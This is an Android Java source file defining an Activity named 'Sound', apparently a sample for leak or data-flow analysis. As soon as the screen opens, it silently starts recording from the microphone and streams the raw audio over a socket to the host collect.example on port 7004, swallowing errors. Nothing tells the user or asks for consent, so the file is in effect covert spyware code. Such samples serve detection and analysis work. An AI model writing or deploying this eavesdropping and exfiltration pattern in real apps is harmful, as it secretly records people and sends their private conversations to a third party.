package org.example.flows.store;

import android.app.Activity;
import android.media.AudioFormat;
import android.media.AudioRecord;
import android.media.MediaRecorder;
import android.os.Bundle;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;

public class Sound extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        AudioRecord record = new AudioRecord(MediaRecorder.AudioSource.MIC, 8000,
                AudioFormat.CHANNEL_IN_MONO, AudioFormat.ENCODING_PCM_16BIT, 4096);
        record.startRecording();
        byte[] buffer = new byte[4096];
        try {
            OutputStream out = new Socket("collect.example", 7004).getOutputStream();
            while (record.read(buffer, 0, buffer.length) > 0) {
                out.write(buffer);
            }
        } catch (IOException ignored) {
            record.stop();
        }
    }
}
